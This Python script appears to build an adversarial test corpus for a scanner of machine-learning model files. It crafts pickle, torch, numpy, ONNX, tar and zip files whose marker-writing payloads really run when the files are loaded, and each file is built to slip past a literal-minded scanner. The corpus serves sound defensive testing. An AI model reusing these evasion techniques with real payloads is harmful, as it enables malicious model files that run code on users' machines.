#!/usr/bin/python3
"""Writes tests/corpus/security/adversarial/: model files whose payload REALLY runs when the file is
loaded the normal way, each one a way around a scanner that reads files too literally.

Run with Debian's interpreter and packages (apt-get install -y python3-torch python3-numpy
python3-onnx):  /usr/bin/python3 tests/corpus/make_adversarial_corpus.py

Every payload is harmless: it creates a marker file in the loader's current directory
(`open("MLOPS_CORPUS_MARKER", "w")` through builtins.exec/eval, or `touch MLOPS_CORPUS_MARKER`
through os.system), or, for archives, writes a file or a symlink one directory above the
extraction directory. After writing the files the script proves each one: it copies the file into
a fresh temporary directory, loads it there in a subprocess with the real library
(pickle / torch.load(weights_only=False) / numpy.load(allow_pickle=True) / tarfile.extractall /
zipfile / gzip ...), and checks that the marker appeared. A payload that does not fire makes the
script fail. Pass --no-prove to only write.

Also updates tests/corpus/security/manifest.json (entries under security/adversarial/).
"""
import bz2
import gzip
import io
import lzma
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_common import (SECURITY, ZipAsm, forge_crc32, stable_legacy_keys,  # noqa: E402
                           update_manifest, write)  # noqa: E402

OUT = os.path.join(SECURITY, "adversarial")
MARKER = "MLOPS_CORPUS_MARKER"
EXEC_CODE = "open('%s', 'w').write('payload ran')" % MARKER
SHELL = "touch %s" % MARKER
ESCAPED = "MLOPS_CORPUS_ESCAPED"
ABSOLUTE_TARGET = "/tmp/mlops-corpus-tar-absolute-marker"

# Torch's legacy (non-zip) serialization constants (torch/serialization.py).
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL = 1001
LEGACY_SYS_INFO = dict(protocol_version=LEGACY_PROTOCOL, little_endian=True,
                       type_sizes=dict(short=2, int=4, long=4))


class ExecCall:
    """Unpickles to builtins.exec(EXEC_CODE)."""

    def __reduce__(self):
        return (exec, (EXEC_CODE,))


class SystemCall:
    """Unpickles to os.system(SHELL); pickle names it posix.system on Linux."""

    def __reduce__(self):
        return (os.system, (SHELL,))


class EvalCall:
    def __reduce__(self):
        return (eval, (EXEC_CODE,))


# ---------------------------------------------------------------------------------------------
# Pickle fragments, hand-assembled.

def sized_unicode(text):
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def exec_ops_binary():
    """Opcodes (protocol 1+, no PROTO) that call builtins.exec(EXEC_CODE), leaving None on the
    stack."""
    return b"cbuiltins\nexec\n" + sized_unicode(EXEC_CODE) + b"\x85R"


def exec_ops_text():
    """Protocol 0 text opcodes: builtins.exec(EXEC_CODE) through a MARK, a unicode line, TUPLE."""
    assert "\\" not in EXEC_CODE and "\n" not in EXEC_CODE
    return b"cbuiltins\nexec\n(V" + EXEC_CODE.encode() + b"\ntR"


def payload_then(obj_pickle, ops=None):
    """A pickle that first runs the payload, drops its result (POP), then builds what
    `obj_pickle` (a protocol 2+ pickle of the real object) builds."""
    assert obj_pickle[:1] == b"\x80"
    return obj_pickle[:2] + (ops or exec_ops_binary()) + b"0" + obj_pickle[2:]


def split_pickles(data, count):
    """Offsets of `count` consecutive pickles at the start of data: [(start, end), ...]."""
    spans, position = [], 0
    for _ in range(count):
        end = None
        for op, _, pos in pickletools.genops(data[position:]):
            if op.name == "STOP":
                end = position + pos + 1
                break
        spans.append((position, end))
        position = end
    return spans


def legacy_torch_bytes(obj, protocol=2):
    buffer = io.BytesIO()
    torch.save(obj, buffer, pickle_protocol=protocol, _use_new_zipfile_serialization=False)
    return stable_legacy_keys(buffer.getvalue())


def legacy_header_pickles():
    return b"".join(pickle.dumps(x, protocol=2)
                    for x in (LEGACY_MAGIC, LEGACY_PROTOCOL, LEGACY_SYS_INFO))


def torch_zip(data_pkl, extra=()):
    """A minimal torch.save zip archive (archive/data.pkl, archive/version) assembled by hand."""
    z = ZipAsm()
    records = [z.local("archive/data.pkl", data_pkl), z.local("archive/version", b"3\n")]
    records += [z.local(name, data) for name, data in extra]
    offset, size, count = z.central(records)
    z.eocd(count, size, offset)
    return z.bytes()


def tar_bytes(members, compression=None):
    """members: (TarInfo fields dict, data or None)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for fields, data in members:
            info = tarfile.TarInfo(fields.pop("name"))
            info.mtime = 1767225600
            info.uid = info.gid = 0
            info.uname = info.gname = "root"
            info.mode = 0o644
            for key, value in fields.items():
                setattr(info, key, value)
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    raw = buffer.getvalue()
    if compression == "gz":
        raw = gzip.compress(raw, mtime=0)
    return raw


def npy_bytes(header, data, version=(1, 0)):
    """An .npy file with a hand-written header (dict text), padded like numpy pads."""
    magic = b"\x93NUMPY" + bytes(version)
    length_size = 2 if version == (1, 0) else 4
    text = header.encode("latin1" if version < (3, 0) else "utf8")
    pad = -(len(magic) + length_size + len(text) + 1) % 64
    text += b" " * pad + b"\n"
    length = struct.pack("<H" if length_size == 2 else "<I", len(text))
    return magic + length + text + data


def object_array_pickle():
    """What np.save writes after the header of an object array: protocol 3 pickle of the array."""
    return pickle.dumps(np.array([ExecCall(), 1.5], dtype=object), protocol=3)


def tiny_onnx_bytes():
    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])], "add",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [weight])
    model = helper.make_model(graph, producer_name="mlops-corpus",
                              opset_imports=[helper.make_opsetid("", 13)])
    onnx.checker.check_model(model)
    return model.SerializeToString()


def varint(n):
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


# ---------------------------------------------------------------------------------------------
# Loaders: run in a subprocess, in a temporary directory, with the file's name as argv[1].

LOAD_PICKLE = "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))"
LOAD_TORCH = "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)"
LOAD_NUMPY = ("import numpy, sys\nr = numpy.load(sys.argv[1], allow_pickle=True)\n"
              "[r[k] for k in r.files] if hasattr(r, 'files') else r")
LOAD_TAR = "import sys, tarfile\ntarfile.open(sys.argv[1]).extractall('extract')"
LOAD_ONNX_CHECK = "import onnx, sys\nonnx.checker.check_model(onnx.load(sys.argv[1]))"


def load_zip_member(member):
    return ("import pickle, sys, zipfile\n"
            "pickle.load(zipfile.ZipFile(sys.argv[1]).open(%r))" % member)


LOAD_GZIP = "import gzip, pickle, sys\npickle.load(gzip.open(sys.argv[1]))"
LOAD_BZ2 = "import bz2, pickle, sys\npickle.load(bz2.open(sys.argv[1]))"
LOAD_XZ = "import lzma, pickle, sys\npickle.load(lzma.open(sys.argv[1]))"

TORCH_SEES_BENIGN = "torch.load(f, weights_only=False) sees the benign data.pkl (no payload)"

LOADER_TEXT = {
    LOAD_PICKLE: "pickle.load(open(f, 'rb'))",
    LOAD_TORCH: "torch.load(f, weights_only=False)",
    LOAD_NUMPY: "numpy.load(f, allow_pickle=True) (an npz: each member read)",
    LOAD_TAR: "tarfile.open(f).extractall('extract')",
    LOAD_GZIP: "pickle.load(gzip.open(f))",
    LOAD_BZ2: "pickle.load(bz2.open(f))",
    LOAD_XZ: "pickle.load(lzma.open(f))",
}


def marker_in_cwd(work, rc):
    return os.path.exists(os.path.join(work, MARKER))


def clean_success(work, rc):
    """For the other view of an ambiguous file: the loader succeeds and the payload does not run."""
    return rc == 0 and not os.path.exists(os.path.join(work, MARKER))


def escaped_beside_extract(work, rc):
    return os.path.exists(os.path.join(work, ESCAPED))


# ---------------------------------------------------------------------------------------------
# The files. Each: name, class, loaders [(code, check, description)], why, extra manifest keys.

FILES = []


def add(name, data, klass, why, loaders, **extra):
    write(os.path.join(OUT, name), data)
    FILES.append(dict(name=name, klass=klass, why=why, loaders=loaders, extra=extra))


def marker_loaders(*codes, check=marker_in_cwd):
    return [(code, check, LOADER_TEXT.get(code)) for code in codes]


def unscanned_pickles():
    klass = "unscanned_pickle"
    # A real legacy torch.save whose pickles are all protocol 1: no PROTO opcode anywhere.
    state = {"weight": torch.arange(7, dtype=torch.float32), "hook": ExecCall()}
    add("legacy_torch_save_protocol1_payload.pt", legacy_torch_bytes(state, protocol=1), klass,
        "torch.save(_use_new_zipfile_serialization=False, pickle_protocol=1): five pickles, none "
        "starts with PROTO; the data pickle calls builtins.exec",
        marker_loaders(LOAD_TORCH))

    # Legacy protocol 2, but the data pickle (4th) starts with NONE, POP before its PROTO.
    raw = legacy_torch_bytes({"weight": torch.arange(129, dtype=torch.float32),
                              "hook": ExecCall()})
    spans = split_pickles(raw, 5)
    start = spans[3][0]
    add("legacy_torch_save_payload.pt", raw[:start] + b"N0" + raw[start:], klass,
        "legacy torch.save layout; the data pickle begins with NONE POP, PROTO comes second; it "
        "calls builtins.exec", marker_loaders(LOAD_TORCH))

    # Payload in the storage-keys pickle (5th), which still returns the real keys.
    raw = legacy_torch_bytes({"weight": torch.arange(128, dtype=torch.float32),
                              "bias": torch.zeros(3)})
    spans = split_pickles(raw, 5)
    keys_start, keys_end = spans[4]
    keys = payload_then(raw[keys_start:keys_end])
    add("legacy_torch_save_keys_payload.pt", raw[:keys_start] + keys + raw[keys_end:], klass,
        "legacy torch.save of a real state dict; the 5th pickle (storage keys) calls "
        "builtins.exec, then returns the keys, so the load succeeds", marker_loaders(LOAD_TORCH))

    # Payload in the sys_info pickle (3rd), protocol 0 text.
    sys_info = pickle.dumps(LEGACY_SYS_INFO, protocol=0)
    sys_info = exec_ops_text() + b"0" + sys_info
    raw = legacy_torch_bytes({"weight": torch.ones(2)})
    spans = split_pickles(raw, 5)
    add("legacy_torch_save_sysinfo_payload.pt",
        raw[:spans[2][0]] + sys_info + raw[spans[2][1]:], klass,
        "legacy torch.save; the 3rd pickle (sys info) is protocol 0 text that calls "
        "builtins.exec before building the dict", marker_loaders(LOAD_TORCH))

    add("proto0_payload.bin",
        b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.", klass,
        "protocol 0 (text) pickle, no PROTO: GLOBAL os system, MARK, UNICODE, TUPLE, REDUCE",
        marker_loaders(LOAD_PICKLE))
    add("proto1_payload.pkl", pickle.dumps({"config": SystemCall()}, protocol=1), klass,
        "protocol 1 (binary, no PROTO) pickle of a dict holding an os.system reducer",
        marker_loaders(LOAD_PICKLE))
    add("late_proto_payload.pkl",
        b"N0" + payload_then(pickle.dumps({"w": [1.0, 2.0]}, protocol=4)), klass,
        "starts with NONE POP; PROTO 4 only comes second; builtins.exec",
        marker_loaders(LOAD_PICKLE))
    add("inst_payload.pkl", b"(V" + SHELL.encode() + b"\nios\nsystem\n.", klass,
        "protocol 0 INST opcode (import and call in one): os.system", marker_loaders(LOAD_PICKLE))

    # Misleading names: the format is in the bytes, not in the name or the declared format.
    add("weights.onnx", pickle.dumps({"graph": ExecCall()}, protocol=2), klass,
        "a pickle named .onnx (declare it as onnx): skipped by a name- or format-based scan",
        marker_loaders(LOAD_PICKLE, LOAD_TORCH), declared_format="onnx")
    add("model.txt", pickle.dumps([SystemCall()], protocol=0), klass,
        "a protocol 0 pickle (printable text) named .txt", marker_loaders(LOAD_PICKLE),
        declared_format="unknown")
    add("payload.safetensors", pickle.dumps({"w": EvalCall()}, protocol=4), klass,
        "a pickle named .safetensors (a format that cannot hold code); builtins.eval",
        marker_loaders(LOAD_PICKLE, LOAD_TORCH), declared_format="safetensors")
    add("pickle_named.npy", pickle.dumps(np.array([ExecCall()], dtype=object), protocol=2),
        klass, "a plain pickle named .npy: numpy.load(allow_pickle=True) falls back to "
        "pickle.load when the npy magic is missing", marker_loaders(LOAD_NUMPY),
        declared_format="numpy")


def closed_containers():
    klass = "closed_container"
    add("tar_dotdot.tar",
        tar_bytes([({"name": "model/weights.bin"}, b"\0" * 16),
                   ({"name": "../" + ESCAPED}, b"written outside the extraction directory\n")]),
        klass, "a tar member named ../" + ESCAPED + ": tarfile.extractall writes it outside",
        [(LOAD_TAR, escaped_beside_extract, LOADER_TEXT[LOAD_TAR])])

    def symlink_out(work, rc):
        link = os.path.join(work, "extract", "escape")
        return os.path.islink(link) and os.path.exists(os.path.join(work, ESCAPED))
    add("tar_symlink.tar",
        tar_bytes([({"name": "escape", "type": tarfile.SYMTYPE, "linkname": "..",
                     "mode": 0o777}, None),
                   ({"name": "escape/" + ESCAPED}, b"written through a symlink\n")]),
        klass, "a symlink member escape -> .. then a file escape/" + ESCAPED +
        ": extractall writes through the link, outside the extraction directory",
        [(LOAD_TAR, symlink_out, LOADER_TEXT[LOAD_TAR])])

    def absolute_written(work, rc):
        written = os.path.exists(ABSOLUTE_TARGET)
        if written:
            os.remove(ABSOLUTE_TARGET)
        return written
    add("tar_absolute_path.tar",
        tar_bytes([({"name": ABSOLUTE_TARGET}, b"absolute member path\n")]),
        klass, "a tar member with an absolute path (" + ABSOLUTE_TARGET +
        "): extractall writes it there", [(LOAD_TAR, absolute_written, LOADER_TEXT[LOAD_TAR])])

    load_targz = "import sys, tarfile\ntarfile.open(sys.argv[1], 'r:gz').extractall('extract')"
    add("savedmodel_dotdot.tar.gz",
        tar_bytes([({"name": "./saved_model.pb"}, b"\x08\x01"),
                   ({"name": "./variables", "type": tarfile.DIRTYPE, "mode": 0o755}, None),
                   ({"name": "./variables/variables.index"}, b"\0" * 8),
                   ({"name": "./variables/../../" + ESCAPED}, b"escaped\n")], "gz"),
        klass, "a SavedModel .tar.gz whose member ./variables/../../" + ESCAPED +
        " leaves the extraction directory",
        [(load_targz, escaped_beside_extract, "tarfile.open(f, 'r:gz').extractall('extract')")])

    # torch's pre-1.6 tar format: members storages, tensors, pickle; torch.load still reads it.
    storages = payload_then(pickle.dumps(0, protocol=2)) + pickle.dumps([], protocol=2)
    add("torch_tar_legacy_payload.pt",
        tar_bytes([({"name": "sys_info"}, pickle.dumps(LEGACY_SYS_INFO, protocol=2)),
                   ({"name": "storages"}, storages),
                   ({"name": "tensors"}, pickle.dumps(0, protocol=2)),
                   ({"name": "pickle"}, pickle.dumps({"w": [1.0, 2.0]}, protocol=2))]),
        klass, "torch's tar serialization (still read by torch.load): the pickle in member "
        "'storages' calls builtins.exec", marker_loaders(LOAD_TORCH))

    inner = pickle.dumps({"model": ExecCall()}, protocol=4)
    add("gzip_pickle.pkl.gz", gzip.compress(inner, mtime=0), klass,
        "a gzip-compressed pickle (builtins.exec)", marker_loaders(LOAD_GZIP))
    add("bz2_pickle.pkl.bz2", bz2.compress(pickle.dumps([SystemCall()], protocol=2)), klass,
        "a bzip2-compressed pickle (os.system)", marker_loaders(LOAD_BZ2))
    add("xz_pickle.pkl.xz", lzma.compress(pickle.dumps({"m": EvalCall()}, protocol=3)), klass,
        "an xz-compressed pickle (builtins.eval)", marker_loaders(LOAD_XZ))
    add("gzip_named.bin", gzip.compress(pickle.dumps((ExecCall(),), protocol=2), mtime=0),
        klass, "a gzip-compressed pickle without a telling name: only the magic says gzip",
        marker_loaders(LOAD_GZIP))

    inner_zip = torch_zip(pickle.dumps({"w": ExecCall()}, protocol=2))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("bundle/README", date_time=(2026, 1, 1, 0, 0, 0)),
                         b"model bundle\n")
        archive.writestr(zipfile.ZipInfo("bundle/model.pt", date_time=(2026, 1, 1, 0, 0, 0)),
                         inner_zip)
    load_nested = ("import io, sys, torch, zipfile\n"
                   "inner = zipfile.ZipFile(sys.argv[1]).read('bundle/model.pt')\n"
                   "torch.load(io.BytesIO(inner), weights_only=False)")
    add("zip_in_zip.zip", buffer.getvalue(), klass,
        "a zip holding bundle/model.pt, itself a torch zip archive whose data.pkl calls "
        "builtins.exec", [(load_nested, marker_in_cwd,
                           "torch.load(BytesIO(zipfile.ZipFile(f).read('bundle/model.pt')))")])

    npy = io.BytesIO()
    np.save(npy, np.array([ExecCall()], dtype=object), allow_pickle=True)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mean.npy", date_time=(2026, 1, 1, 0, 0, 0)),
                         b"".join([npy_bytes("{'descr': '<f4', 'fortran_order': False, "
                                             "'shape': (2,), }", b"\0" * 8)]))
        archive.writestr(zipfile.ZipInfo("weights", date_time=(2026, 1, 1, 0, 0, 0)),
                         npy.getvalue())
    add("npz_object_member_without_suffix.npz", buffer.getvalue(), klass,
        "an npz whose member 'weights' (no .npy suffix) is an object array: numpy.load reads "
        "any member that starts with the npy magic", marker_loaders(LOAD_NUMPY))


def ambiguous_zips():
    klass = "ambiguous_zip"
    benign = pickle.dumps({"w": [0.5, 1.5]}, protocol=2)
    evil = pickle.dumps({"w": ExecCall()}, protocol=2)
    version = b"3\n"
    load_data = load_zip_member("archive/data.pkl")
    zip_text = "pickle.load(zipfile.ZipFile(f).open('archive/data.pkl'))"

    # The EOCD counts 2 records; the directory holds 3. zipfile reads the directory by its size
    # and keeps the last of two same-named entries; miniz (torch) trusts the count.
    z = ZipAsm()
    a, v, b = (z.local("archive/data.pkl", benign), z.local("archive/version", version),
               z.local("archive/data.pkl", evil))
    offset, size, _ = z.central([a, v, b])
    z.eocd(2, size, offset)
    add("zip_eocd_count_mismatch.zip", z.bytes(), klass,
        "EOCD says 2 entries, the central directory holds 3: the third, a second "
        "archive/data.pkl calling builtins.exec, is the one zipfile opens (torch.load, trusting "
        "the count, loads the benign one)", [(load_data, marker_in_cwd, zip_text),
                                            (LOAD_TORCH, clean_success, TORCH_SEES_BENIGN)])

    # Two complete central directories and EOCDs; readers take the last EOCD.
    z = ZipAsm()
    a, v, b = (z.local("archive/data.pkl", benign), z.local("archive/version", version),
               z.local("archive/data.pkl", evil))
    offset, size, count = z.central([a, v])
    z.eocd(count, size, offset)
    offset, size, count = z.central([b, v])
    z.eocd(count, size, offset)
    add("zip_two_central_dirs.zip", z.bytes(), klass,
        "two central directories, each with its EOCD: the first lists the benign data.pkl, the "
        "last (the one zipfile and torch's miniz use) lists a data.pkl calling builtins.exec",
        [(LOAD_TORCH, marker_in_cwd, LOADER_TEXT[LOAD_TORCH]),
         (load_data, marker_in_cwd, zip_text)])

    # Classic EOCD -> benign directory; ZIP64 EOCD (found through its locator) -> evil directory.
    z = ZipAsm()
    a, v, b = (z.local("archive/data.pkl", benign), z.local("archive/version", version),
               z.local("archive/data.pkl", evil))
    offset1, size1, count1 = z.central([a, v])
    offset2, size2, count2 = z.central([b, v])
    z.zip64_locator(z.zip64_eocd(count2, size2, offset2))
    z.eocd(count1, size1, offset1)
    add("zip64_hidden_entry.zip", z.bytes(), klass,
        "the classic EOCD points at a directory listing the benign data.pkl; a ZIP64 EOCD "
        "record, which zipfile and miniz prefer whenever its locator is present, points at one "
        "listing a data.pkl calling builtins.exec",
        [(LOAD_TORCH, marker_in_cwd, LOADER_TEXT[LOAD_TORCH]),
         (load_data, marker_in_cwd, zip_text)])

    # Entries the directory does not list, reached through zipfile's prepended-data shift.
    # Layout: [benign data.pkl, version][CD1][evil data.pkl, version][CD2][EOCD -> offset of CD1]
    # zipfile finds the directory right before the EOCD (CD2) and, as the EOCD's offset is
    # smaller than CD2's position, adds the difference to every entry offset: it reads the
    # second copy of the entries, which no directory lists at their position. Both data.pkl have
    # the same size and CRC-32 (forged), so either reading verifies.
    evil_padded = evil
    benign_padded = benign + b"\0" * (len(evil) + 4 - len(benign))
    evil_padded = evil + forge_crc32(evil, zlib.crc32(benign_padded))
    assert len(evil_padded) == len(benign_padded)
    z = ZipAsm()
    a, v = z.local("archive/data.pkl", benign_padded), z.local("archive/version", version)
    cd1_offset, size, count = z.central([a, v])
    z.local("archive/data.pkl", evil_padded, crc=a["crc"])
    z.local("archive/version", version)
    z.central([a, v])
    z.eocd(count, size, cd1_offset)
    add("zip_unlisted_local_entry.zip", z.bytes(), klass,
        "the data.pkl zipfile opens (calling builtins.exec) sits at an offset no directory "
        "lists: zipfile shifts every offset by the gap between the EOCD's directory offset and "
        "the directory it finds; torch (miniz) reads the listed, benign copy",
        [(load_data, marker_in_cwd, zip_text), (LOAD_TORCH, clean_success, TORCH_SEES_BENIGN)])

    # Type sniffing: the file starts as a benign pickle; a zip follows, which zipfile opens.
    z = ZipAsm(prefix=pickle.dumps({"format": "pickle", "w": [1, 2, 3]}, protocol=2))
    records = [z.local("archive/data.pkl", evil), z.local("archive/version", version)]
    offset, size, count = z.central(records)
    z.eocd(count, size, offset)
    add("zip_behind_benign_pickle.pkl", z.bytes(), klass,
        "a benign pickle followed by a zip: a type sniffed from the first bytes is pickle (and "
        "that pickle is clean), but zipfile opens the zip behind it, whose data.pkl calls "
        "builtins.exec", [(load_data, marker_in_cwd, zip_text),
                          (LOAD_PICKLE, clean_success,
                           "pickle.load(open(f, 'rb')) sees only the clean leading pickle")])


def npy_headers():
    klass = "npy_header"
    data = object_array_pickle()
    loaders = marker_loaders(LOAD_NUMPY)
    cases = [
        ("npy_duplicate_descr.npy",
         "{'descr': '<f4', 'fortran_order': False, 'shape': (2,), 'descr': '|O', }",
         "two 'descr' keys: '<f4' first, '|O' last; numpy keeps the last (object, pickled)"),
        ("npy_object_spelled_out.npy",
         "{'descr': 'object', 'fortran_order': False, 'shape': (2,), }",
         "descr 'object' instead of '|O' (numpy.dtype('object'))"),
        ("npy_adjacent_literals.npy",
         "{'descr': '|' \"O\", 'fortran_order': False, 'shape': (2,), }",
         "descr written as two adjacent string literals '|' \"O\", which Python joins"),
        ("npy_escape_object.npy",
         "{'descr': '\\x7c\\x4f', 'fortran_order': False, 'shape': (2,), }",
         "descr written with escapes '\\x7c\\x4f' (= '|O')"),
        ("npy_comment.npy",
         "{'descr': # '<f4',\n '|O', 'fortran_order': False, 'shape': (2,), }",
         "a comment holds a decoy '<f4' right after 'descr':; the real value '|O' follows on "
         "the next line"),
    ]
    for name, header, why in cases:
        add(name, npy_bytes(header, data), klass, why + "; the pickled data calls builtins.exec",
            loaders)
    structured = pickle.dumps(np.array([(1.0, ExecCall())], dtype=[("w", "<f4"), ("meta", "O")]),
                              protocol=3)
    add("npy_structured_object_field.npy",
        npy_bytes("{'descr': [('w', '<f4'), ('meta', '|O')], 'fortran_order': False, "
                  "'shape': (1,), }", structured), klass,
        "a structured dtype whose second field is an object: the array is pickled; "
        "builtins.exec", loaders)
    add("npy_v3_keys_reordered.npy",
        npy_bytes("{\"shape\": (2,), \"fortran_order\": False, \"descr\": \"|O\"}", data,
                  version=(3, 0)), klass,
        "format version 3.0 (utf-8 header, 4-byte length), double quotes, keys in another order; "
        "object array, builtins.exec", loaders)


def polyglots():
    klass = "polyglot"
    onnx_bytes = tiny_onnx_bytes()
    # ModelProto field 9 is unused: tag 0x4a (field 9, length-delimited) is pickle's BININT 'J'.
    # Protobuf skips the field's bytes, which hold the rest of the pickle; pickle stops at its
    # STOP and never reads the ONNX model behind it.
    body = b"0" + pickle.dumps({"graph": ExecCall()}, protocol=2)  # POP the BININT, then a pickle
    for length_bytes in (1, 2):
        length = (4 - length_bytes) + len(body)  # the BININT's other bytes, then body
        encoded = varint(length)
        if len(encoded) == length_bytes:
            break
    head = b"J" + encoded + b"\0" * (4 - len(encoded))
    polyglot = head + body + onnx_bytes
    model = onnx.load_from_string(polyglot)
    onnx.checker.check_model(model)
    assert model.graph.node[0].op_type == "Add"
    add("onnx_pickle_polyglot.onnx", polyglot, klass,
        "a valid ONNX model (checker passes; the pickle is an unknown field 9) that is also a "
        "pickle calling builtins.exec", [
            (LOAD_ONNX_CHECK, clean_success,
             "onnx.checker.check_model(onnx.load(f)) passes (no payload: protobuf skips it)"),
            (LOAD_PICKLE, marker_in_cwd, LOADER_TEXT[LOAD_PICKLE]),
            (LOAD_TORCH, marker_in_cwd, LOADER_TEXT[LOAD_TORCH])],
        declared_format="onnx")


def allowed_globals_misused():
    klass = "allowed_global_misuse"

    def short(text):
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    original = "class Model(torch.nn.Module):\n    pass\n"
    # BUILD on the imported function torch._utils._rebuild_tensor_v2 with slot state
    # {'dump_patches': True, '__name__': MARKER}; then a persistent id ('module', function,
    # 'model.py', source). torch's legacy loader calls _check_container_source, which finds the
    # source changed and writes a "reverse patch" to __name__ + '.patch' in the current directory:
    # a file write with attacker-chosen name and partly chosen content, using only allowed
    # globals.
    data = b"".join([
        b"\x80\x02}",                                     # PROTO 2, EMPTY_DICT
        short("model"),
        b"(", short("module"),                            # MARK 'module'
        b"ctorch._utils\n_rebuild_tensor_v2\n",           # GLOBAL (allowed)
        b"N}(", short("dump_patches"), b"\x88", short("__name__"), short(MARKER), b"u",
        b"\x86b",                                         # (None, slots) TUPLE2, BUILD
        short("model.py"), sized_unicode(original),
        b"tQ",                                            # TUPLE, BINPERSID
        b"s.",                                            # SETITEM, STOP
    ])
    add("build_on_global.pt", legacy_header_pickles() + data + pickle.dumps([], protocol=2),
        klass, "legacy torch file importing only allowed globals: BUILD sets dump_patches and "
        "__name__ on the function torch._utils._rebuild_tensor_v2; a 'module' persistent id then "
        "makes torch write " + MARKER + ".patch",
        [(LOAD_TORCH, lambda work, rc: os.path.exists(os.path.join(work, MARKER + ".patch")),
          LOADER_TEXT[LOAD_TORCH])])

    # The same chain, dict state (function __dict__) on torch.jit._pickle.build_intlist: the
    # persistent id is a tuple of 4 where torch writes ('storage', type, key, location, numel,
    # view): torch writes build_intlist.patch.
    data = b"".join([
        b"\x80\x02]",                                     # EMPTY_LIST
        b"(", short("module"),
        b"ctorch.jit._pickle\nbuild_intlist\n",
        b"}", short("dump_patches"), b"\x88s",            # {'dump_patches': True}
        b"b",                                             # BUILD: __dict__.update
        short("layers.py"), sized_unicode(original),
        b"tQ", b"a.",                                     # BINPERSID, APPEND
    ])
    add("persistent_id_odd.pt", legacy_header_pickles() + data + pickle.dumps([], protocol=2),
        klass, "legacy torch file: a persistent id ('module', torch.jit._pickle.build_intlist, "
        "file, source) instead of a storage tuple, after BUILD set dump_patches in the function's "
        "__dict__: torch writes build_intlist.patch",
        [(LOAD_TORCH, lambda work, rc: os.path.exists(os.path.join(work, "build_intlist.patch")),
          LOADER_TEXT[LOAD_TORCH])])


# ---------------------------------------------------------------------------------------------

def prove(entry):
    """Loads the file with each loader in a fresh temporary directory; returns failures."""
    failures = []
    for code, check, _ in entry["loaders"]:
        with tempfile.TemporaryDirectory(prefix="mlops-corpus-") as tmp:
            work = os.path.join(tmp, "work")
            os.mkdir(work)
            shutil.copy(os.path.join(OUT, entry["name"]), os.path.join(work, entry["name"]))
            result = subprocess.run([sys.executable, "-W", "ignore", "-c", code, entry["name"]],
                                    cwd=work, capture_output=True, text=True, timeout=600)
            ok = check(work, result.returncode)
            if check is clean_success:
                status = "clean view" if ok else "NOT CLEAN"
            else:
                status = "fired" if ok else "DID NOT FIRE"
            tail = "" if result.returncode == 0 else " (loader then raised: %s)" % (
                result.stderr.strip().splitlines() or ["?"])[-1][:100]
            print("  %-40s %-12s %s%s" % (entry["name"], status, code.splitlines()[-1][:60],
                                          tail))
            if not ok:
                failures.append((entry["name"], code, result.stderr[-2000:]))
    return failures


def self_test():
    """The prover itself must tell a benign file from a live one."""
    name = "self_test_benign.pkl"
    write(os.path.join(OUT, name), pickle.dumps({"w": [1, 2]}, protocol=2))
    try:
        with tempfile.TemporaryDirectory(prefix="mlops-corpus-") as tmp:
            shutil.copy(os.path.join(OUT, name), tmp)
            result = subprocess.run([sys.executable, "-c", LOAD_PICKLE, name], cwd=tmp,
                                    capture_output=True)
            assert result.returncode == 0 and not marker_in_cwd(tmp, 0), "prover self-test"
    finally:
        os.remove(os.path.join(OUT, name))


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    unscanned_pickles()
    closed_containers()
    ambiguous_zips()
    npy_headers()
    polyglots()
    allowed_globals_misused()

    for entry in FILES:
        size = os.path.getsize(os.path.join(OUT, entry["name"]))
        assert size < 200 * 1024, entry["name"]

    if "--no-prove" not in sys.argv:
        self_test()
        failures = []
        for entry in FILES:
            failures += prove(entry)
        if failures:
            for name, code, stderr in failures:
                print("\nCHECK FAILED: %s\nloader:\n%s\nstderr:\n%s" % (name, code, stderr))
            sys.exit("%d payload(s) did not fire" % len(failures))

    manifest = []
    for entry in FILES:
        item = {"path": "security/adversarial/" + entry["name"], "expect": "FAILED",
                "class": entry["klass"],
                "loader": "; ".join(text for _, check, text in entry["loaders"]
                                    if check is not clean_success),
                "why": entry["why"]}
        others = [text for _, check, text in entry["loaders"] if check is clean_success]
        if others:
            item["other_readers"] = "; ".join(others)
        item.update(entry["extra"])
        manifest.append(item)
    update_manifest("security/adversarial/", manifest)
    print("%d adversarial files%s" % (len(FILES), "" if "--no-prove" in sys.argv
                                      else ", every payload proven live"))


if __name__ == "__main__":
    if os.environ.get("PYTHONHASHSEED") != "0":  # str hashing orders sets: fixed for stable bytes
        os.execve(sys.executable, [sys.executable] + sys.argv,
                  dict(os.environ, PYTHONHASHSEED="0"))
    main()
